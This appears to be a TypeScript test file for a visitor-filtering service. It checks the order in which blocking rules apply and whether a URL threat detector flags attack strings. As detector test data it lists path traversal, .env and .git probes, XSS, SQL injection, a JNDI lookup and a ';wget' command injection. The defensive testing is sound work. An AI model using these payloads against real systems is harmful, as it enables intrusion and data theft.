import { type Identity, LINK_STATUSES, type LinkStatus, linkRules } from '@veridict/contract';
import { createIpLookup, type IpInfo } from '@veridict/ip';
import { describe, expect, it } from 'vitest';
import { decide, type Visitor } from './decide.ts';
import { isThreat } from './threats.ts';

const info: IpInfo = {
  ...createIpLookup({ asn: null, place: () => ({ country: 'ES', city: null }), feeds: () => ({}) })('84.1.1.1')!,
  datacenter: false,
};
const nobody: Identity = { kind: 'none', name: null, category: null, operator: null };
const crawler: Identity = { kind: 'claimed', name: 'Examplebot', category: 'search_engine', operator: null };
const person: Visitor = {
  address: '84.1.1.1',
  info,
  identity: nobody,
  isAutomated: false,
  device: 'desktop',
  hostname: 'host.isp.example',
  isThreat: false,
  attacks: 0,
};

/** In the order of precedence: each is blocked, or allowed, by the rule beside it. */
const STEPS: ReadonlyArray<readonly [LinkStatus, rule: object, visitor: Partial<Visitor>]> = [
  ['ALLOW BY WHITELIST IP (USER)', { allow_list: ['84.1.0.0/16'] }, {}],
  ['BLOCK BY BLACKLIST IP (USER)', { block_list: ['84.1.1.1'] }, {}],
  ['BLOCK BY IP DATABASE', { block_known_addresses: true }, { attacks: 3 }],
  ['BLOCK BY THREAT URL', { block_threat_urls: true }, { isThreat: true }],
  ['BLOCK BY SPIDER CRAWLER', { block_crawlers: 'all' }, { identity: crawler }],
  ['BLOCK BY MALICIOUS ACTIVITY', { block_malicious: true }, { isAutomated: true }],
  ['BLOCK BY HOSTNAME DATABASE', { block_hostnames: ['.isp.example'] }, {}],
  ['BLOCK BY PROXY/VPN/TOR', { block_proxies: true }, { info: { ...info, tor: true } }],
  ['BLOCK BY IP NON-ISP', { block_non_isp: true }, { info: { ...info, datacenter: true } }],
  ['BLOCK BY COUNTRY', { countries: { mode: 'deny', codes: ['ES'] } }, {}],
  ['BLOCK BY DEVICE DESKTOP', { block_desktop: true }, {}],
  ['BLOCK BY DEVICE MOBILE', { block_mobile: true }, { device: 'mobile' }],
];
const rulesOf = (rule: object) => linkRules.parse(rule);

describe('each status', () => {
  it('has its step, but for the two that need no rule', () => {
    const without = ['BLOCK BY INVALID KEYNAME', 'VISITOR'];
    expect([...STEPS.map(([status]) => status), ...without].sort()).toEqual([...LINK_STATUSES].sort());
  });

  it.each(STEPS)('%s', (status, rule, visitor) => {
    expect(decide(rulesOf(rule), { ...person, ...visitor })).toBe(status);
    expect(decide(rulesOf({}), { ...person, ...visitor })).toBe('VISITOR');
  });

  it('is told before those that come later in the order', () => {
    const { identity: _, ...later } = Object.assign({}, ...STEPS.map(([, , visitor]) => visitor)) as Partial<Visitor>;
    const met: Visitor = { ...person, ...later, identity: crawler, info: { ...info, tor: true, datacenter: true } };
    // The last two are about two devices, so only one can hold.
    const mobile = STEPS.filter(([status]) => status !== 'BLOCK BY DEVICE DESKTOP');
    for (const [place, [status]] of mobile.entries()) {
      const rules = rulesOf(Object.assign({}, ...mobile.slice(place).map(([, rule]) => rule)));
      expect(decide(rules, met)).toBe(status);
    }
  });

  it('is INVALID KEYNAME where there are no rules at all', () => {
    expect(decide(null, person)).toBe('BLOCK BY INVALID KEYNAME');
  });
});

describe('who passes', () => {
  const everything = rulesOf({ ...Object.assign({}, ...STEPS.slice(2).map(([, rule]) => rule)), block_hostnames: [] });

  it('crawlers that prove who they are, unless all are blocked', () => {
    const proven: Visitor = { ...person, identity: { ...crawler, kind: 'verified' }, isAutomated: true };
    expect(decide({ ...everything, block_crawlers: 'unverified' }, proven)).toBe('VISITOR');
    expect(decide({ ...everything, block_crawlers: 'unverified' }, { ...proven, identity: crawler })).toBe(
      'BLOCK BY SPIDER CRAWLER',
    );
    expect(decide(everything, proven)).toBe('BLOCK BY SPIDER CRAWLER');
  });

  it('people behind relays, and whoever nothing is known of', () => {
    const rules = rulesOf({ block_proxies: true, block_non_isp: true, countries: { mode: 'allow', codes: ['PT'] } });
    expect(decide(rules, { ...person, info: null, hostname: null })).toBe('VISITOR');
    expect(decide(rulesOf({ block_proxies: true }), { ...person, info: { ...info, proxy: true, relay: true } })).toBe(
      'VISITOR',
    );
  });

  it('tools are no crawlers', () => {
    const tool: Visitor = { ...person, identity: { ...crawler, category: 'http_library' } };
    expect(decide(rulesOf({ block_crawlers: 'all' }), tool)).toBe('VISITOR');
  });

  it('addresses beside a listed network, and of the other family', () => {
    const rules = rulesOf({ block_list: ['84.1.2.0/24', '2001:db8::/32'] });
    expect(decide(rules, { ...person, address: '84.1.3.1' })).toBe('VISITOR');
    expect(decide(rules, { ...person, address: '84.1.2.255' })).toBe('BLOCK BY BLACKLIST IP (USER)');
    expect(decide(rules, { ...person, address: '2001:db8:1::1' })).toBe('BLOCK BY BLACKLIST IP (USER)');
    expect(decide(rules, { ...person, address: '2001:db9::1' })).toBe('VISITOR');
  });

  it.each([
    ['.isp.example', 'a.isp.example', true],
    ['.isp.example', 'isp.example', false],
    ['isp.example', 'isp.example', true],
    ['isp.example', 'notisp.example', false],
  ])('%s names %s: %s', (ending, hostname, isNamed) => {
    const status = decide(rulesOf({ block_hostnames: [ending] }), { ...person, hostname });
    expect(status === 'BLOCK BY HOSTNAME DATABASE').toBe(isNamed);
  });
});

describe('threat URLs', () => {
  it.each([
    '/a?file=../../etc/passwd',
    '/a?file=..%252f..%252fetc',
    '/.env',
    '/.git/config',
    '/wp-login.php',
    '/?q=<script>alert(1)</script>',
    '/?q=%3Cscript%3E',
    "/?id=1' OR '1'='1",
    '/?id=1+UNION+SELECT+password',
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attack writes it
    '/?x=${jndi:ldap://a.example/x}',
    '/?c=;wget http://a.example',
    '/a%0d%0aSet-Cookie:x',
  ])('finds %s', (url) => expect(isThreat(url)).toBe(true));

  it.each([
    '/',
    '/abc?utm_source=newsletter&utm_campaign=spring%20sale',
    '/search?q=cats+and+dogs',
    '/search?q=100%',
    '/blog/the-union-selected-a-new-leader',
    '/shop?sort=price;desc',
    '/a?next=https%3A%2F%2Fshop.example%2Fcart',
    '/caf%C3%A9?name=O%27Brien',
    '/environment/.well-known/x',
  ])('spares %s', (url) => expect(isThreat(url)).toBe(false));
});
